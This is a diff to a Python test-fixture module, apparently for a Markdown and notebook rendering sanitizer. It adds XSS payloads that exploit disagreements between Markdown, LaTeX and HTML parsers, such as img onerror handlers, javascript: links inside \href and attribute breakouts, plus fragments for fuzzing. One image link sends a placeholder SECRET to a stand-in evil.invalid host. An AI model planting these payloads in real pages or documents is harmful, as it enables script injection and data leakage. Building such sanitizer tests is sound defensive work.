@@ -7,7 +7,7 @@ clicks (`javascript:` links, JupyterLab's command linker): there the link or the
 
 from __future__ import annotations
 
-__all__ = ["HOSTILE_NAMES", "PAYLOADS"]
+__all__ = ["FRAGMENTS", "HOSTILE_NAMES", "PAYLOADS"]
 
 EVIL = "https://evil.invalid"
 PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
@@ -395,6 +395,39 @@ MIXED = (
     "Text\n<script>alert(1)</script>\n===",
 )
 
+IMAGE = "<img src=x onerror=alert(1)>"
+
+# What one parser takes for code or a formula, and another one for a picture, a link or HTML.
+READERS = (
+    "![``a`b](https://evil.invalid/x?q=SECRET``c`)",
+    f"![``a`b](x){IMAGE}``c`)",
+    f"\\begin{{align}}\n{IMAGE}\n\\end{{align}}",
+    f"`\\begin{{align}}`\n\n    x \\end{{align}}{IMAGE}",
+    f"`\\begin{{align}}`\n\n```\nx \\end{{align}}\n\n{IMAGE}\n```",
+    f"`\\\\[`\n\n```\n\\\\]\n\n{IMAGE}\n```",
+    f"`$$`\n\n```\n$$\n\n{IMAGE}\n```",
+    f"`\\\\[x\\\\] {IMAGE}`",
+    f"$a\\\\[b$\n\n```\n\\\\]\n\n{IMAGE}\n```",
+    f"$$\nx\n$$ `$$`\n\n```\n$$\n\n{IMAGE}\n```",
+    f"> ```\n> $\n> ```\n>\n> $x$\n>\n> ````\n> ```\n> {IMAGE}\n> ````",
+    f"- ```\n  $\n  ```\n  $x$\n  ````\n  ```\n  {IMAGE}\n  ````",
+    f"- > ```\n  > $\n  > ```\n  > $x$\n  > ````\n  > ```\n  > {IMAGE}\n  > ````",
+    f"- `\\\\(`\n- ```\n  \\\\)\n  {IMAGE}\n  ```",
+    f"1. `\\\\[`\n   ```\n   \\\\]\n   {IMAGE}\n   ```",
+    f"`\\\\(` a ``\\\\) ` {IMAGE} ` ``",
+    f"**x ``a`b** {IMAGE}`` y**",
+    f"\\``{IMAGE}`",
+    f"[``a`b](https://e.x/``{IMAGE}`)](https://e.x/)",
+    f"| a `x\\| {IMAGE}` |\n|---|\n| `b \\\\| {IMAGE}` |",
+    f"$x{{$ `{IMAGE}` $y}}$",
+    "$a{b$ `\\href{javascript:alert(1)}{x}` $c}d$",
+    "$\n\\href{javascript:alert(1)}{x}\n$",
+    "[$\\href{javascript:alert(1)}{x}$](https://e.x/)",
+    '![q" onerror="alert(1)](data:image/png;base64,iVBORw0KGgo=)',
+    '![$" onerror=alert(1) x="$](data:image/png;base64,iVBORw0KGgo=)',
+    '[x](https://e.x/@\\@0@@) $" onmouseover=alert(1) x="$',
+)
+
 PAYLOADS: dict[str, tuple[str, ...]] = {
     "scripts": SCRIPTS,
     "handlers": HANDLERS,
@@ -405,6 +438,7 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
     "tables": TABLES,
     "formulas": FORMULAS,
     "mixed": MIXED,
+    "readers": READERS,
 }
 
 HOSTILE_NAMES = (
@@ -420,4 +454,21 @@ HOSTILE_NAMES = (
     "\udcff<img src=x onerror=alert(1)>",
     "| a |\n|---|\n| b |",
     "&lt;script&gt;",
+)
+
+# What noise is made of, so that it comes close to what parsers disagree about.
+FRAGMENTS = (
+    *("a", "b ", " ", "\n", "\n\n", "`", "``", "```", "~", "~~", "~~~", "*", "**", "_", "__", "[", "]", "]("),
+    *("](https://evil.invalid/x)", "![", "![x](https://evil.invalid/a.png)", "(", ")", "<", ">", "<b>", IMAGE),
+    *("<script>alert(1)</script>", "</code>", "$", "$$", "$ ", "\\", "\\\\", "\\(", "\\)", "\\[", "\\]", "\\\\("),
+    *("\\\\)", "\\\\[", "\\\\]", "\\begin{align}", "\\end{align}", "\\begin{a}", "\\end{a}", "{", "}", "$x$"),
+    *("$$y$$", "$a{b$", "$c}d$", "`$`", "`\\\\(`", "`\\\\)`", "`\\\\[`", "``a`b``", "|", "| a | b |\n|---|---|\n"),
+    *("| `x", "- ", "  ", "    ", "\t", "1. ", "> ", "# ", "## ", "---\n", "```\n", "```py\n", "````\n", "~~~\n"),
+    *("\n```\n", "\n  ```\n", "\n> ```\n", "\n- ```\n", "&lt;", "&#60;", "&#96;", "&#91;", "&amp;", "!", '"', "'"),
+    *(":", "[x]: ", "[x]: javascript:alert(1)\n", "[x]", "[^1]", "[^1]: ", "javascript:alert(1)"),
+    *("https://evil.invalid", "www.evil.invalid", "http://", "@@0@@", "@@1@@", "<br>", "<!--", "-->", "%", "="),
+    *("==\n", "&", "\\`", "\\*", "\\$", "\r", "{{", "\\href{javascript:alert(1)}{x}"),
+    *("<https://evil.invalid/`a`>", "[a](https://e.x/b)", "[`c`](https://e.x/b)", "**b**", "*e*", "~~s~~"),
+    *("data:image/png;base64,iVBORw0KGgo=", '![q" onerror="alert(1)](data:image/png;base64,iVBORw0KGgo=)'),
+    *("\u202e", "\x1b[2J", "中", "，", "\u3000"),
 )
